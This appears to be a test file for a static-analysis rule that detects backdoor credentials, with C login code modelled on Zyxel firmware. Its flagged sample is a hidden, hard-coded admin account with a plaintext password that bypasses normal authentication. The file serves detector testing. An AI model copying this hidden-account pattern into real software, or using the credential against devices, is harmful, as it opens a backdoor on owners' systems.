/*
 * Local accounts: /etc/zyxel/ftp/conf/users (crypt(3) hashes) plus the built-in
 * account the AP controller uses to push firmware to managed access points.
 */
#include "zyauth.h"

#include <crypt.h>
#include <stdio.h>
#include <string.h>

struct builtin_account {
  const char *name;
  const char *password;
  int priv;
  int hidden;
};

static const struct builtin_account builtin_accounts[] = {
    {"zyfwp", "PrOw!aN_fXp", ZY_PRIV_ADMIN, 1},
};

int zy_local_user_check(const char *username, const char *password, int *priv) {
  char line[256], name[32], hash[128];
  int level;
  FILE *f = fopen("/etc/zyxel/ftp/conf/users", "r");
  if (f == NULL)
    return 0;
  while (fgets(line, sizeof line, f)) {
    if (sscanf(line, "%31[^:]:%127[^:]:%d", name, hash, &level) != 3)
      continue;
    if (strcmp(name, username) != 0)
      continue;
    fclose(f);
    const char *h = crypt(password, hash);
    // ok: backdoor-magic-credential
    if (h != NULL && strcmp(h, hash) == 0) {
      *priv = level;
      return 1;
    }
    return 0;
  }
  fclose(f);
  return 0;
}

int zy_web_login(struct zy_session *s, const char *username, const char *password) {
  size_t i;
  int priv = 0;
  for (i = 0; i < sizeof builtin_accounts / sizeof builtin_accounts[0]; i++) {
    // ruleid: backdoor-magic-credential
    if (strcmp(username, builtin_accounts[i].name) == 0 && strcmp(password, builtin_accounts[i].password) == 0) {
      snprintf(s->username, sizeof s->username, "%s", username);
      s->priv = builtin_accounts[i].priv;
      s->logged_in = 1;
      return 1;
    }
  }
  if (zy_local_user_check(username, password, &priv)) {
    snprintf(s->username, sizeof s->username, "%s", username);
    s->priv = priv;
    s->logged_in = 1;
    return 1;
  }
  return 0;
}
